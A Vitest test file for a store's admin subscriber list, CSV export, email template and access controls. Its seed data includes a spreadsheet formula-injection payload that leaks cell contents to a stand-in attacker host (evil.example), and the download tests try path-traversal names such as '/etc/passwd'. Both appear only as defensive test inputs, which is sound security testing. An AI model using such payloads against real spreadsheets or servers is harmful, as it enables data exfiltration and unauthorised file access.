import fs from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import * as emailPage from "#app/routes/admin.email";
import * as outboxPage from "#app/routes/admin.outbox";
import * as subscribersPage from "#app/routes/admin.subscribers";
import { useAppContextForTests } from "#server/boot";
import { TEMPLATE_SUBJECT } from "#server/contracts/admin-subscribers";
import { listSubscribers, neutraliseCell } from "#server/services/mail/admin-subscribers";
import { sanitizeEmailHtml } from "#server/services/mail/campaign-mail";
import { sendCampaign } from "#server/services/mail/campaigns";
import { saveCountdown } from "#server/services/drop/drops";
import { ensureAdmin } from "#server/services/accounts/users";
import { createTestContext } from "../setup/context";
import { api, CookieJar } from "../setup/http";

const ctx = createTestContext({ BRAND_NAME: "Legacy" });
const admin = new CookieJar();
const shopper = new CookieJar();
let adminId: number;

const TRICKY = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+1-555@example.com",
  "-2+3@example.com",
  "@SUM(A1)@example.com",
  "\tcmd@example.com",
  '"quoted, with comma"@example.com',
];

beforeAll(async () => {
  useAppContextForTests(ctx);
  await ensureAdmin(ctx, { username: "boss", password: "boss-password", email: "boss@example.com" });
  adminId = (await ctx.db.selectFrom("users").select("id").where("username", "=", "boss").executeTakeFirstOrThrow()).id;
  await api("POST", "/api/login", { body: { username: "boss", password: "boss-password" }, jar: admin });
  await api("POST", "/api/register", { body: { username: "shopper", password: "shopper1", email: "s@example.com" }, jar: shopper });
  await ctx.db
    .insertInto("subscribers")
    .values([
      { email: "first@example.com", subscribedAt: "2026-05-01T10:00:00.000Z" },
      { email: "second@example.com", subscribedAt: "2026-05-02T10:00:00.000Z" },
      { email: "left@example.com", subscribedAt: "2026-05-03T10:00:00.000Z", unsubscribedAt: "2026-05-04T10:00:00.000Z" },
      ...TRICKY.map((email, i) => ({ email, subscribedAt: `2026-04-0${i + 1}T10:00:00.000Z` })),
    ])
    .execute();
});

type ListBody = {
  subscribers: { id: number; email: string; subscribedAt: string }[];
  count: number;
  page: number;
  pageSize: number;
  pages: number;
};

/** The active list newest first: the two May sign-ups, then the April ones from the 6th back to the 1st. */
const NEWEST_FIRST = ["second@example.com", "first@example.com", ...[...TRICKY].reverse()];

describe("GET /api/admin/subscribers", () => {
  const list = (query = "") => api("GET", `/api/admin/subscribers${query}`, { jar: admin });

  it("lists the active subscribers newest first, with their count", async () => {
    const response = await list();
    expect(response.status).toBe(200);
    const body = (await response.json()) as ListBody;
    expect(body.count).toBe(2 + TRICKY.length);
    expect(body.subscribers).toHaveLength(body.count);
    expect(body.subscribers.slice(0, 2)).toEqual([
      { id: expect.any(Number), email: "second@example.com", subscribedAt: "2026-05-02T10:00:00.000Z" },
      { id: expect.any(Number), email: "first@example.com", subscribedAt: "2026-05-01T10:00:00.000Z" },
    ]);
    expect(body.subscribers.map((s) => s.email)).not.toContain("left@example.com");
  });

  it("without parameters answers page 1 of 100", async () => {
    const body = (await (await list()).json()) as ListBody;
    expect(body).toEqual({ subscribers: expect.any(Array), count: 8, page: 1, pageSize: 100, pages: 1 });
    expect(body.subscribers.map((s) => s.email)).toEqual(NEWEST_FIRST);
  });

  it("pages the list: the count stays the total, each page holds its rows in order", async () => {
    const first = (await (await list("?pageSize=3")).json()) as ListBody;
    expect({ ...first, subscribers: first.subscribers.map((s) => s.email) }).toEqual({
      subscribers: ["second@example.com", "first@example.com", '"quoted, with comma"@example.com'],
      count: 8,
      page: 1,
      pageSize: 3,
      pages: 3,
    });
    const second = await list("?page=2&pageSize=3");
    expect(second.status).toBe(200);
    expect(second.headers.get("Cache-Control")).toBe("private, no-store");
    const body = (await second.json()) as ListBody;
    expect(body.count).toBe(8);
    expect(body.pages).toBe(3);
    expect(body.page).toBe(2);
    expect(body.pageSize).toBe(3);
    expect(body.subscribers).toEqual([
      { id: expect.any(Number), email: "\tcmd@example.com", subscribedAt: "2026-04-05T10:00:00.000Z" },
      { id: expect.any(Number), email: "@SUM(A1)@example.com", subscribedAt: "2026-04-04T10:00:00.000Z" },
      { id: expect.any(Number), email: "-2+3@example.com", subscribedAt: "2026-04-03T10:00:00.000Z" },
    ]);
    const last = (await (await list("?page=3&pageSize=3")).json()) as ListBody;
    expect(last.subscribers.map((s) => s.email)).toEqual(["+1-555@example.com", TRICKY[0]]);
    // Every page together is the whole list, once each, in order.
    expect([...first.subscribers, ...body.subscribers, ...last.subscribers].map((s) => s.email)).toEqual(NEWEST_FIRST);
  });

  it("answers a page past the end empty, with the real count and pages", async () => {
    for (const query of ["?page=4&pageSize=3", "?page=2", "?page=9007199254740991&pageSize=500"]) {
      const response = await list(query);
      expect(response.status, query).toBe(200);
      const body = (await response.json()) as ListBody;
      expect(body.subscribers, query).toEqual([]);
      expect(body.count, query).toBe(8);
      expect(body.pages, query).toBe(query.includes("pageSize=3") ? 3 : 1);
    }
  });

  it("refuses a bad page or page size with 400 and a readable message", async () => {
    const badPage = {
      message: "The page must be a whole number of 1 or more.",
      errors: { page: ["The page must be a whole number of 1 or more."] },
    };
    const badSize = {
      message: "The page size must be a whole number from 1 to 500.",
      errors: { pageSize: ["The page size must be a whole number from 1 to 500."] },
    };
    const cases: [string, unknown][] = [
      ["?page=0", badPage],
      ["?page=-1", badPage],
      ["?page=abc", badPage],
      ["?page=1.5", badPage],
      ["?page=1e2", badPage],
      ["?page=99999999999999999999", badPage],
      ["?pageSize=0", badSize],
      ["?pageSize=501", badSize],
      ["?pageSize=ten", badSize],
      ["?page=2&pageSize=2.5", badSize],
      ["?page=0&pageSize=501", { message: badPage.message, errors: { ...badPage.errors, ...badSize.errors } }],
    ];
    for (const [query, expected] of cases) {
      const response = await list(query);
      expect(response.status, query).toBe(400);
      expect(await response.json(), query).toEqual(expected);
    }
  });

  it("orders subscribers who signed up in the same instant by newest id first", async () => {
    const same = "2026-03-01T10:00:00.000Z";
    const inserted = await ctx.db
      .insertInto("subscribers")
      .values(["tie-a@example.com", "tie-b@example.com", "tie-c@example.com"].map((email) => ({ email, subscribedAt: same })))
      .returning(["id", "email"])
      .execute();
    try {
      // The ties are the oldest, so they end the list of 11: at 3 a page the newest tie closes page 3
      // and the other two make page 4.
      const page3 = await listSubscribers(ctx, { page: 3, pageSize: 3 });
      const page4 = await listSubscribers(ctx, { page: 4, pageSize: 3 });
      expect(page3.count).toBe(11);
      expect(page4.pages).toBe(4);
      expect(page3.subscribers.at(-1)?.email).toBe("tie-c@example.com");
      expect(page4.subscribers.map((s) => s.email)).toEqual(["tie-b@example.com", "tie-a@example.com"]);
    } finally {
      await ctx.db
        .deleteFrom("subscribers")
        .where(
          "id",
          "in",
          inserted.map((r) => r.id),
        )
        .execute();
    }
  });
});

describe("the subscriber pages read ?page= for the first render", () => {
  const load = (loader: typeof subscribersPage.loader, url: string) =>
    loader({ request: new Request(`http://localhost${url}`, { headers: { Cookie: admin.header() } }), params: {}, context: {} });

  it("loads page 1 of 100 without ?page, the asked page with it, and page 1 for anything unusable", async () => {
    const plain = await load(subscribersPage.loader, "/admin/subscribers");
    expect({ ...plain.list, subscribers: plain.list.subscribers.map((s) => s.email) }).toEqual({
      subscribers: NEWEST_FIRST,
      count: 8,
      page: 1,
      pageSize: 100,
      pages: 1,
    });
    const past = await load(subscribersPage.loader, "/admin/subscribers?page=2");
    expect(past.list).toEqual({ subscribers: [], count: 8, page: 2, pageSize: 100, pages: 1 });
    for (const junk of ["0", "-3", "abc", "1.5", ""]) {
      const loaded = await load(subscribersPage.loader, `/admin/subscribers?page=${junk}`);
      expect(loaded.list.page, junk).toBe(1);
      expect(loaded.list.subscribers, junk).toHaveLength(8);
    }
    const email = await load(emailPage.loader, "/admin/email?page=2");
    expect(email.list).toEqual({ subscribers: [], count: 8, page: 2, pageSize: 100, pages: 1 });
  });
});

describe("the CSV export", () => {
  async function exportAndDownload() {
    const response = await api("GET", "/api/admin/export-subscribers", { jar: admin });
    expect(response.status).toBe(200);
    const result = (await response.json()) as { count: number; filename: string; downloadUrl: string };
    const file = result.downloadUrl.split("/").pop()!;
    const download = await api("GET", result.downloadUrl, { jar: admin });
    return { result, file, download };
  }

  it("answers count, filename and downloadUrl, and the file is a real CSV with the three columns", async () => {
    const { result, file, download } = await exportAndDownload();
    expect(result).toEqual({ count: 8, filename: "subscribers-2026-06-01.csv", downloadUrl: `/api/admin/exports/${file}` });
    expect(file).toMatch(/^subscribers-2026-06-01-[a-f0-9]{32}\.csv$/);
    expect(fs.existsSync(path.join(ctx.config.dataDir, "exports", file))).toBe(true);

    expect(download.status).toBe(200);
    expect(download.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(download.headers.get("Content-Disposition")).toBe('attachment; filename="subscribers-2026-06-01.csv"');
    expect(download.headers.get("Cache-Control")).toContain("no-store");
    const bytes = new Uint8Array(await download.arrayBuffer());
    // A UTF-8 byte-order mark, so Excel reads the addresses as UTF-8 (decoding drops it).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const lines = text.split("\r\n");
    // The screen's zone, named in the header (issue 28): 10:00 UTC is 6 AM in New York in May.
    expect(lines[0]).toBe("#,Email,Subscribed On (New York time)");
    expect(lines[1]).toBe("1,second@example.com,2026-05-02 06:00:00 -04:00");
    expect(lines[2]).toBe("2,first@example.com,2026-05-01 06:00:00 -04:00");
    expect(lines.at(-1)).toBe("");
    expect(lines).toHaveLength(1 + 8 + 1);
    expect(text).not.toContain("left@example.com");
  });

  it("neutralises spreadsheet formulas and quotes commas and quotes", async () => {
    const { download } = await exportAndDownload();
    const text = await download.text();
    // The formula starts with an apostrophe, so a spreadsheet shows it as text; its quotes are doubled.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
    expect(text).toContain(",'+1-555@example.com,");
    expect(text).toContain(",'-2+3@example.com,");
    expect(text).toContain(",'@SUM(A1)@example.com,");
    expect(text).toContain(",'\tcmd@example.com,");
    expect(text).toContain(`,"""quoted, with comma""@example.com",`);
    // No cell of the file starts with a formula character.
    for (const line of text.split("\r\n").filter(Boolean)) {
      expect(line.split(",")[1]).not.toMatch(/^"?[=+\-@\t\r]/);
    }
    expect(neutraliseCell("\r=1")).toBe("'\r=1");
    expect(neutraliseCell("plain@example.com")).toBe("plain@example.com");
  });

  it("holds every active subscriber, not one page of the list", async () => {
    const extra = Array.from({ length: 150 }, (_, i) => ({ email: `bulk-${i}@example.com`, subscribedAt: "2026-01-01T10:00:00.000Z" }));
    const inserted = await ctx.db.insertInto("subscribers").values(extra).returning("id").execute();
    try {
      const { result, download } = await exportAndDownload();
      expect(result.count).toBe(158);
      const lines = (await download.text()).split("\r\n").filter(Boolean);
      expect(lines).toHaveLength(1 + 158);
      expect(lines.at(-1)).toBe("158,bulk-0@example.com,2026-01-01 05:00:00 -05:00");
    } finally {
      await ctx.db
        .deleteFrom("subscribers")
        .where(
          "id",
          "in",
          inserted.map((r) => r.id),
        )
        .execute();
    }
  });

  it("lets only an admin download it (401, 403), and never outside the exports folder", async () => {
    const { file } = await exportAndDownload();
    expect((await api("GET", `/api/admin/exports/${file}`)).status).toBe(401);
    expect((await api("GET", `/api/admin/exports/${file}`, { jar: shopper })).status).toBe(403);
    fs.writeFileSync(path.join(ctx.config.dataDir, "secret.csv"), "secret");
    for (const attempt of [
      "../secret.csv",
      "..%2Fsecret.csv",
      "../store.db",
      "/etc/passwd",
      `${file}/../../secret.csv`,
      "subscribers-2026-06-01-00000000000000000000000000000000.csv",
      ".session-secret",
    ]) {
      // Encoded, so the name reaches the route as it is rather than as a URL the client resolved.
      const response = await api("GET", `/api/admin/exports/${encodeURIComponent(attempt)}`, { jar: admin });
      expect(response.status, attempt).toBe(404);
    }
  });
});

describe("GET /api/admin/email-template", () => {
  it("answers the launch announcement, built within the e-mail sanitiser's allow-list", async () => {
    const response = await api("GET", "/api/admin/email-template", { jar: admin });
    expect(response.status).toBe(200);
    const { template } = (await response.json()) as { template: string };
    expect(template).toContain("The drop is almost here");
    expect(template).toContain("Legacy");
    expect(template).toContain('href="/store"');
    expect(template).toContain("Legacy isn&#39;t told — it&#39;s worn.");
    // The default launch (July 2025) is past on the test clock.
    expect(template).toContain("The collection is live now.");
    const clean = sanitizeEmailHtml(template);
    for (const kept of ["background-color:#0b0b0b", 'bgcolor="#0b0b0b"', 'href="/store"', "<h1", "<ul", "text-transform:uppercase"])
      expect(clean).toContain(kept);
    expect(TEMPLATE_SUBJECT).toBe("Product Launch Updates");
  });

  it("names the launch time in Eastern Time while the countdown is ahead", async () => {
    await saveCountdown(ctx, "2026-07-04T16:00:00.000Z");
    const { template } = (await (await api("GET", "/api/admin/email-template", { jar: admin })).json()) as { template: string };
    expect(template).toContain("Doors open Saturday, July 4, 2026 at 12:00 PM EDT.");
  });
});

describe("every admin door refuses visitors (401) and non-admins (403)", () => {
  const doors = [
    "GET /api/admin/subscribers",
    "POST /api/admin/subscribers",
    "GET /api/admin/export-subscribers",
    "POST /api/admin/export-subscribers",
    "GET /api/admin/email-template",
    "POST /api/admin/email-template",
    "POST /api/admin/send-email",
    "GET /api/admin/send-email",
    "GET /api/admin/campaigns/1",
    "POST /api/admin/campaigns/1",
    "POST /api/admin/campaigns/1/resume",
    "GET /api/admin/campaigns/1/resume",
    "GET /api/admin/exports/x.csv",
    "POST /api/admin/exports/x.csv",
  ];

  it.each(doors)("%s", async (name) => {
    const [method, url] = name.split(" ") as [string, string];
    const body = method === "POST" ? { subject: "Hi", htmlContent: "<p>x</p>" } : undefined;
    const anonymous = await api(method, url, { body });
    expect(anonymous.status).toBe(401);
    expect((await anonymous.json()).message).toBe("Please sign in to continue.");
    const ordinary = await api(method, url, { body, jar: shopper });
    expect(ordinary.status).toBe(403);
    expect((await ordinary.json()).message).toBe("Admin access is required.");
  });

  it("nothing was sent by the refused calls", async () => {
    expect(await ctx.db.selectFrom("emailCampaigns").select("id").execute()).toEqual([]);
  });
});

describe("tRPC admin.subscribers", () => {
  const get = (proc: string, jar?: CookieJar, input?: unknown) =>
    api("GET", `/api/trpc/admin.subscribers.${proc}${input === undefined ? "" : `?input=${encodeURIComponent(JSON.stringify(input))}`}`, {
      jar,
    });
  const post = (proc: string, body: unknown, jar?: CookieJar) => api("POST", `/api/trpc/admin.subscribers.${proc}`, { body, jar });

  it("refuses visitors and non-admins on every procedure", async () => {
    for (const [name, request] of [
      ["list", (jar?: CookieJar) => get("list", jar)],
      ["template", (jar?: CookieJar) => get("template", jar)],
      ["campaigns", (jar?: CookieJar) => get("campaigns", jar)],
      ["campaign", (jar?: CookieJar) => get("campaign", jar, { id: 1 })],
      ["export", (jar?: CookieJar) => post("export", {}, jar)],
      ["preview", (jar?: CookieJar) => post("preview", { subject: "a", htmlContent: "b" }, jar)],
    ] as const) {
      expect((await request()).status, name).toBe(401);
      expect((await request(shopper)).status, name).toBe(403);
    }
  });

  it("gives an admin the list, the export and a sanitised preview", async () => {
    const list = await get("list", admin);
    const whole = (await list.json()).result.data as ListBody;
    expect({ ...whole, subscribers: whole.subscribers.map((s) => s.email) }).toEqual({
      subscribers: NEWEST_FIRST,
      count: 8,
      page: 1,
      pageSize: 100,
      pages: 1,
    });
    const exported = (await (await post("export", {}, admin)).json()).result.data as { downloadUrl: string };
    expect(exported.downloadUrl).toMatch(/^\/api\/admin\/exports\/subscribers-/);
    const preview = (await (await post("preview", { subject: "Hello", htmlContent: "<p>Hi</p><script>x()</script>" }, admin)).json()).result
      .data as { html: string };
    expect(preview.html).toContain("<p>Hi</p>");
    expect(preview.html).not.toContain("<script>x()");
    expect(preview.html).toContain("<title>Hello</title>");
    expect(preview.html).toContain("Unsubscribe");
  });
});

describe("tRPC admin.subscribers.list paging", () => {
  const list = (input?: unknown) =>
    api("GET", `/api/trpc/admin.subscribers.list${input === undefined ? "" : `?input=${encodeURIComponent(JSON.stringify(input))}`}`, {
      jar: admin,
    });

  it("takes { page, pageSize } and answers that page with the total count", async () => {
    const response = await list({ page: 2, pageSize: 3 });
    expect(response.status).toBe(200);
    const body = (await response.json()).result.data as ListBody;
    expect({ ...body, subscribers: body.subscribers.map((s) => s.email) }).toEqual({
      subscribers: ["\tcmd@example.com", "@SUM(A1)@example.com", "-2+3@example.com"],
      count: 8,
      page: 2,
      pageSize: 3,
      pages: 3,
    });
    const onlyPage = (await (await list({ page: 2 })).json()).result.data as ListBody;
    expect(onlyPage).toEqual({ subscribers: [], count: 8, page: 2, pageSize: 100, pages: 1 });
    const onlySize = (await (await list({ pageSize: 7 })).json()).result.data as ListBody;
    expect(onlySize.subscribers.map((s) => s.email)).toEqual(NEWEST_FIRST.slice(0, 7));
    expect(onlySize.pages).toBe(2);
  });

  it("refuses bad input with BAD_REQUEST and the same message as REST", async () => {
    const cases: [unknown, string, string][] = [
      [{ page: 0 }, "page", "The page must be a whole number of 1 or more."],
      [{ page: 1.5 }, "page", "The page must be a whole number of 1 or more."],
      [{ page: "two" }, "page", "The page must be a whole number of 1 or more."],
      [{ pageSize: 501 }, "pageSize", "The page size must be a whole number from 1 to 500."],
      [{ pageSize: 0 }, "pageSize", "The page size must be a whole number from 1 to 500."],
      ["page 2", "", "The list query must be an object with page and pageSize."],
    ];
    for (const [input, field, message] of cases) {
      const response = await list(input);
      expect(response.status, JSON.stringify(input)).toBe(400);
      const { error } = (await response.json()) as {
        error: { message: string; data: { code: string; fieldErrors: Record<string, string[]> } };
      };
      expect(error.message).toBe(message);
      expect(error.data.code).toBe("BAD_REQUEST");
      expect(error.data.fieldErrors).toEqual({ [field]: [message] });
    }
  });
});

describe("the outbox page", () => {
  const load = (url: string, jar?: CookieJar) =>
    outboxPage.loader({
      request: new Request(`http://localhost${url}`, { headers: jar ? { Cookie: jar.header() } : {} }),
      params: {},
      context: {},
    });

  it("sends visitors to sign in and non-admins home", async () => {
    const anonymous = await load("/admin/outbox").catch((e: unknown) => e);
    expect(anonymous).toBeInstanceOf(Response);
    expect((anonymous as Response).headers.get("Location")).toBe("/auth?redirectTo=%2Fadmin%2Foutbox");
    const ordinary = await load("/admin/outbox", shopper).catch((e: unknown) => e);
    expect((ordinary as Response).headers.get("Location")).toBe("/");
  });

  it("lists the mail newest first, filters it, and opens one with its headers", async () => {
    await sendCampaign(ctx, { subject: "Outbox check", htmlContent: "<p>Hi</p>" }, adminId, { origin: "http://localhost" });
    const all = await load("/admin/outbox", admin);
    expect(all.mode).toBe("outbox");
    expect(all.total).toBe(8);
    const ids = all.messages.map((m) => m.id);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    const one = await load(`/admin/outbox?q=${encodeURIComponent("second@")}&stream=broadcast&id=${ids[0]}`, admin);
    expect(one.messages.map((m) => m.toAddress)).toEqual(["second@example.com"]);
    expect(one.message?.headers["List-Unsubscribe-Post"]).toBe("List-Unsubscribe=One-Click");
    expect((await load("/admin/outbox?q=%25", admin)).total).toBe(0);
    expect((await load("/admin/outbox?stream=outbound", admin)).total).toBe(0);
  });
});
